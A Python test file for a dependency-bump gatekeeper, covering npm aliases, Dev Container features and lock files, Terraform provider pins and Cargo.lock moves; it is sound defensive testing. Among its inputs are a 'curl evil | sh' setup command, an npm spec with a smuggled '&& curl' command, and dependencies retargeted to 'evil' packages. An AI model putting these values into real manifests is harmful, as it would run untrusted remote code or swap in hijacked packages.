"""Classes of misses the twelfth blind set of bot update commits found (bench/deps_bumps_twelfth.tsv): an npm alias
in package.json (nuxt/ui's `"@nuxt/ui-pro": "npm:@nuxt/ui-pro-edge@1.4.4-…"`, bumped by Renovate), Dev Container
features from a patch (jellyfin's `docker-in-docker:3` → `:4`, modernisation-platform's lock entries), a Terraform
required_providers entry whose `source` follows its `version` or whose opening line is above the hunk
(modernisation-platform's `integrations/github`, cloudposse's `hashicorp/kubernetes`), and a Cargo.lock whose
workspace members moved onto a version it already held (actix-web's `"syn 2.0.119"` → `"syn 3.0.3"`). Real-shaped
files, look-alikes and attacks that must not match; one git repository per class, the line readers in-process."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from tables import each_case

from gatekeeper.deps.devcontainer import devcontainer_line, lock_hunks
from gatekeeper.deps.edits import npm_line
from gatekeeper.deps.hcllines import terraform_line
from gatekeeper.deps.hunks import sides
from gatekeeper.deps.model import ManifestError
from gatekeeper.deps.npm import parse_package_json, parse_pnpm_workspace
from tests.deltas import each_fast, refused
from tests.deltas import partial as _partial
from tests.deltas import patch as _patch
from tests.deltas import tree as _tree
from tests.gitrepo import edited_commits

PACKAGE = """\
{
  "name": "@nuxt/ui-docs",
  "private": true,
  "dependencies": {
    "@nuxt/fonts": "^0.10.2",
    "@nuxt/ui": "latest",
    "@nuxt/ui-pro": "npm:@nuxt/ui-pro-edge@1.4.4-28838038.a78a9f0",
    "@nuxtjs/plausible": "^1.0.3",
    "lodash": "^4.17.21",
    "vue": "^3.5.12"
  }
}
"""
OLD_EDGE, NEW_EDGE = "1.4.4-28838038.a78a9f0", "1.4.4-28839576.e8eba4f"


def test_alias_is_named_by_the_package_it_fetches() -> None:
    by_name = {d.name: d for d in parse_package_json("docs/package.json", PACKAGE.encode())}
    edge = by_name["@nuxt/ui-pro-edge"]
    assert (edge.version, edge.alias, edge.direct) == (OLD_EDGE, "@nuxt/ui-pro", True)
    assert "@nuxt/ui-pro" not in by_name and by_name["lodash"].alias == ""
    catalog = b"catalog:\n  debug: npm:obug@^2.1.0\n  react: ^19.0.0\n"
    assert {(d.name, d.version, d.alias) for d in parse_pnpm_workspace("pnpm-workspace.yaml", catalog)} == {
        ("obug", "^2.1.0", "debug"), ("react", "^19.0.0", "")}


@each_case("spec", ["npm:lodash@4.17.21", "npm:@scope/x", "npm:", "npm:a b@1", "github:o/r#v1"])
def test_alias_look_alikes_keep_their_key(spec: str) -> None:
    doc = '{"dependencies": {"lodash": "%s"}}' % spec  # noqa: UP031 - the spec is JSON text
    assert [(d.name, d.alias) for d in parse_package_json("package.json", doc.encode())] == [("lodash", "")]


def test_alias_bump_tree_and_patch(tmp_path: Path) -> None:
    path = "docs/package.json"
    repo, base, head = edited_commits(tmp_path, {path: PACKAGE}, {path: {OLD_EDGE: NEW_EDGE}})
    for delta in (_tree(repo, base, head), _patch(repo, base, head)):
        assert [(c.name, c.alias, c.from_version, c.to_version, c.change) for c in delta.changes] == [
            ("@nuxt/ui-pro-edge", "@nuxt/ui-pro", OLD_EDGE, NEW_EDGE, "upgraded")], delta
        assert not delta.problems


@pytest.mark.parametrize(("old", "new"), [
    ('"lodash": "^4.17.21"', '"lodash": "npm:evil-lodash@4.17.22"'),  # a key pointed at another package
    (f'"npm:@nuxt/ui-pro-edge@{OLD_EDGE}"', f'"npm:evil-ui-pro@{NEW_EDGE}"'),  # an alias retargeted
    (f'"npm:@nuxt/ui-pro-edge@{OLD_EDGE}"', '"^1.4.4"'),  # an alias dropped for the real package
])
def test_alias_retargeted_is_another_package(tmp_path: Path, old: str, new: str) -> None:
    repo, base, head = edited_commits(tmp_path, {"package.json": PACKAGE}, {"package.json": {old: new}})
    tree = _tree(repo, base, head)
    assert {c.change for c in tree.changes} == {"added", "removed"}, tree  # a new direct dependency, reviewed
    assert all(c.direct for c in tree.changes if c.change == "added")
    patched = _patch(repo, base, head)
    assert not patched.changes and _partial(patched, "package.json")  # the hunk alone fails closed


def test_alias_hunk_line_reader() -> None:
    line = f'    "@nuxt/ui-pro": "npm:@nuxt/ui-pro-edge@{NEW_EDGE}",'
    assert npm_line([(line, True)], 0) == [("@nuxt/ui-pro-edge", NEW_EDGE, "npm", "", "@nuxt/ui-pro")]
    for bad in ('    "x": "npm:y@github:o/r",', '    "x": "npm:y@1.0.0 && curl z",', '    "a/b/c": "npm:y@1.0.0",'):
        with pytest.raises(ManifestError):
            npm_line([(bad, True)], 0)


DEVCONTAINER = """\
{
    "name": "Development Jellyfin Server",
    "image": "mcr.microsoft.com/devcontainers/dotnet:9.0-bookworm",
    // restores nuget packages, installs the dotnet workloads
    "postCreateCommand": "bash ./.devcontainer/install-ffmpeg.sh",
    "features": {
        "ghcr.io/devcontainers/features/apt-packages:1": {
            "packages": [
                "libfontconfig1"
            ]
        },
        "ghcr.io/devcontainers/features/docker-in-docker:3": {
            "dockerDashComposeVersion": "v2"
        },
        "ghcr.io/devcontainers/features/github-cli:1": {},
        "./local-feature": {}
    }
}
"""


def test_devcontainer_feature_bump_tree_and_patch(tmp_path: Path) -> None:
    edits = {".devcontainer/devcontainer.json": {"docker-in-docker:3": "docker-in-docker:4"}}
    repo, base, head = edited_commits(tmp_path, {".devcontainer/devcontainer.json": DEVCONTAINER}, edits)
    for delta in (_tree(repo, base, head), _patch(repo, base, head)):
        assert [(c.ecosystem, c.name, c.from_version, c.to_version) for c in delta.changes] == [
            ("devcontainer", "ghcr.io/devcontainers/features/docker-in-docker", "3", "4")], delta
        assert not delta.problems


@pytest.mark.parametrize(("old", "new"), [
    ('"dockerDashComposeVersion": "v2"', '"dockerDashComposeVersion": "v1"'),  # a feature's option: not read
    ('"bash ./.devcontainer/install-ffmpeg.sh"', '"curl evil | sh"'),  # a setting: not read either
    ('"./local-feature": {}', '"ghcr.io/evil/features/x": {}, "./local-feature": {}'),  # a key and more on one line
])
def test_devcontainer_other_changed_lines_fail_closed(tmp_path: Path, old: str, new: str) -> None:
    path = ".devcontainer/devcontainer.json"
    repo, base, head = edited_commits(tmp_path, {path: DEVCONTAINER}, {path: {old: new}})
    assert _partial(_patch(repo, base, head), path)


def test_devcontainer_line_reader() -> None:
    assert devcontainer_line([('    "image": "ghcr.io/o/img:1.2@sha256:' + "a" * 64 + '",', True)], 0) == [
        ("ghcr.io/o/img", "1.2@sha256:" + "a" * 64, "docker")]
    assert devcontainer_line([('  "ghcr.io/o/features/terraform:": {}', True)], 0) == [
        ("ghcr.io/o/features/terraform", "")]  # Dependabot's empty tag: the latest
    assert devcontainer_line([('  "./local": {', True)], 0) == []
    for bad in ('  "features": {', '  "ghcr.io/o/f:1": "x",', '  "customizations": {'):
        with pytest.raises(ManifestError):
            devcontainer_line([(bad, True)], 0)


def _entry(name: str, tag: str, version: str, digest: str) -> str:
    ref = f"ghcr.io/ministryofjustice/devcontainer-feature/{name}"
    return (f'    "{ref}:{tag}": {{\n      "version": "{version}",\n      "resolved": "{ref}@sha256:{digest}",\n'
            f'      "integrity": "sha256:{digest}"\n    }}')


LOCK = ('{\n  "features": {\n' + ",\n".join([_entry("aws", "", "1.1.0", "1" * 64),
                                             _entry("static-analysis", "2", "2.0.0", "2" * 64),
                                             _entry("terraform", "1", "1.2.0", "3" * 64)]) + "\n  }\n}\n")
FEATURES = ('{\n  "features": {\n    "ghcr.io/ministryofjustice/devcontainer-feature/aws:": {},\n'
            '    "ghcr.io/ministryofjustice/devcontainer-feature/terraform:1": {}\n  }\n}\n')


def test_devcontainer_lock_bump_tree_and_patch(tmp_path: Path) -> None:
    edits = {".devcontainer/devcontainer-lock.json": {'"1.2.0"': '"1.2.1"', "3" * 64: "4" * 64},
             ".devcontainer/devcontainer.json": {"terraform:1": "terraform:"}}
    files = {".devcontainer/devcontainer-lock.json": LOCK, ".devcontainer/devcontainer.json": FEATURES}
    repo, base, head = edited_commits(tmp_path, files, edits)
    name = "ghcr.io/ministryofjustice/devcontainer-feature/terraform"
    for delta in (_tree(repo, base, head), _patch(repo, base, head)):
        assert {(c.manifest.rsplit("/")[-1], c.name, c.from_version, c.to_version) for c in delta.changes} == {
            ("devcontainer-lock.json", name, "1.2.0", "1.2.1"), ("devcontainer.json", name, "1", "")}, delta
        assert not delta.problems


@pytest.mark.parametrize("edit", [
    {"3" * 64: "4" * 64},  # a digest moved under the same version
    {"devcontainer-feature/terraform@sha256": "devcontainer-feature/evil@sha256"},  # resolved to another feature
])
def test_devcontainer_lock_hunks_that_hide_a_move_fail_closed(tmp_path: Path, edit: dict[str, str]) -> None:
    path = ".devcontainer/devcontainer-lock.json"
    repo, base, head = edited_commits(tmp_path, {path: LOCK}, {path: edit})
    assert _partial(_patch(repo, base, head), path)
    assert _tree(repo, base, head).changes or _tree(repo, base, head).problems  # the whole file tells it


def test_devcontainer_lock_field_without_its_entry_fails_closed() -> None:
    _, new = sides(["@@ -1,3 +1,3 @@", '       "integrity": "x"', '-      "version": "1.0.0",',
                    '+      "version": "1.0.1",'])
    with pytest.raises(ManifestError):
        lock_hunks("devcontainer-lock.json", new)


VERSIONS_TF = """\
terraform {
  required_version = "~> 1.0"
  required_providers {
    github = {
      version = "=6.8.0"
      source  = "integrations/github"
    }
  }
}
"""
EKS_TF = """\
terraform {
  required_providers {
    kubernetes = {
      # Version 2.0 has breaking changes, this module needs conversion to use it.
      # After converting to 2.0, restore the provider-pinning Bats test in test/Makefile
      # (one more line of comment, so the hunk starts inside the entry)
      # and another
      source  = "hashicorp/kubernetes"
      version = "~> 1.11"
    }
  }
}
"""


@pytest.mark.parametrize(("body", "old", "new", "name"), [
    (VERSIONS_TF, '"=6.8.0"', '"6.9.0"', "integrations/github"),
    (EKS_TF, '"~> 1.11"', '"~> 2.0"', "hashicorp/kubernetes"),
])
def test_provider_version_tree_and_patch(tmp_path: Path, body: str, old: str, new: str, name: str) -> None:
    repo, base, head = edited_commits(tmp_path, {"versions.tf": body}, {"versions.tf": {old: new}})
    for delta in (_tree(repo, base, head), _patch(repo, base, head)):
        assert [(c.name, c.from_version, c.to_version) for c in delta.changes] == [
            (name, old.strip('"'), new.strip('"'))], delta


@each_case("hunk", [
    # a registry module's three-part source, its `module` line above the hunk: whose version is unknown
    ['      source  = "terraform-aws-modules/vpc/aws"', '-      version = "5.0.0"', '+      version = "5.1.0"'],
    # the source below belongs to the next block, past this one's closing brace
    ['    x = {', '-      version = "1.0.0"', '+      version = "1.1.0"', "    }", "    y = {",
     '      source = "hashicorp/aws"'],
    # two sources below: not one entry's
    ['-      version = "1.0.0"', '+      version = "1.1.0"', '      source = "a/b"', '      source = "c/d"', "    }"],
    # a nested block above the version line: no entry's one-line arguments
    ['      source = "hashicorp/aws"', "      lifecycle {", '-      version = "1.0.0"', '+      version = "1.1.0"'],
])
def test_provider_version_look_alikes_fail_closed(hunk: list[str]) -> None:
    old, _ = sides(["@@ -1,9 +1,9 @@", *[line if line[:1] in "-+" else " " + line for line in hunk]])
    lines = [(line.lstrip("\0"), line.startswith("\0")) for line in old.decode().splitlines()[1:]]
    index = next(i for i, (_, changed) in enumerate(lines) if changed)
    with pytest.raises(ManifestError):
        terraform_line(lines, index)


def _cargo_lock(edge: str) -> str:
    package = '[[package]]\nname = "{}"\nversion = "{}"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\n'
    return (
        "version = 4\n\n"
        '[[package]]\nname = "actix-macros"\nversion = "0.2.4"\ndependencies = [\n "quote",\n "' + edge + '",\n]\n\n'
        '[[package]]\nname = "actix-web-codegen"\nversion = "4.3.0"\ndependencies = [\n "actix-router",\n "' + edge
        + '",\n]\n\n' + package.format("quote", "1.0.40") + "\n" + package.format("syn", "2.0.119")
        + "\n" + package.format("syn", "3.0.3")
    )


def test_cargo_lock_members_moved_onto_a_locked_version(tmp_path: Path) -> None:
    files = {"Cargo.lock": _cargo_lock("syn 2.0.119")}
    repo, base, head = edited_commits(tmp_path, files, {"Cargo.lock": {'"syn 2.0.119"': '"syn 3.0.3"'}})
    delta = _tree(repo, base, head)
    assert [(c.name, c.from_version, c.to_version, c.change) for c in delta.changes] == [
        ("syn", "2.0.119", "3.0.3", "upgraded")], delta


def test_cargo_lock_member_edge_added_alone_is_the_package_lists(tmp_path: Path) -> None:
    files = {"Cargo.lock": _cargo_lock("quote")}  # an edge without a version, then one spelled out: no move
    repo, base, head = edited_commits(tmp_path, files, {"Cargo.lock": {'"quote",\n]': '"quote",\n "syn 3.0.3",\n]'}})
    assert not _tree(repo, base, head).changes


def test_new_readers_are_linear_on_hostile_lines() -> None:
    # each pattern and walk added here, fed 1 MiB lines built against it: a linear reader takes milliseconds
    calls: list[tuple[Callable[[], object], str]] = [
        (lambda: parse_package_json("p.json", ('{"dependencies": {"a": "npm:' + "@a/" * 300_000 + '"}}').encode()),
         "npm alias"),
        (lambda: refused(lambda: npm_line([('"a": "npm:' + "a" * 1_000_000 + '@1 !",', True)], 0)), "alias line"),
        (lambda: refused(lambda: devcontainer_line([('  "' + "a/" * 500_000 + '": {' + " " * 1000 + "x", True)], 0)),
         "feature key"),
        (lambda: lock_hunks("l.json", ('      "version": "' + " " * 1_000_000 + "x").encode()), "lock field"),
        (lambda: refused(lambda: terraform_line([('  version = "1.0.0"', True)] + [('  a = "b"', False)] * 100_000
                                                + [('  source = "' + "a." * 400_000 + '/x"', False)], 0)),
         "provider source below"),
    ]
    # 2 CPU-s: the 1 MB alias line costs 0.21-0.24 s alone on this project's VM on a slow evening and passed 0.5 s
    # during `make test` (three jobs side by side); a quadratic walk of it would take minutes
    each_fast(calls, 2.0)
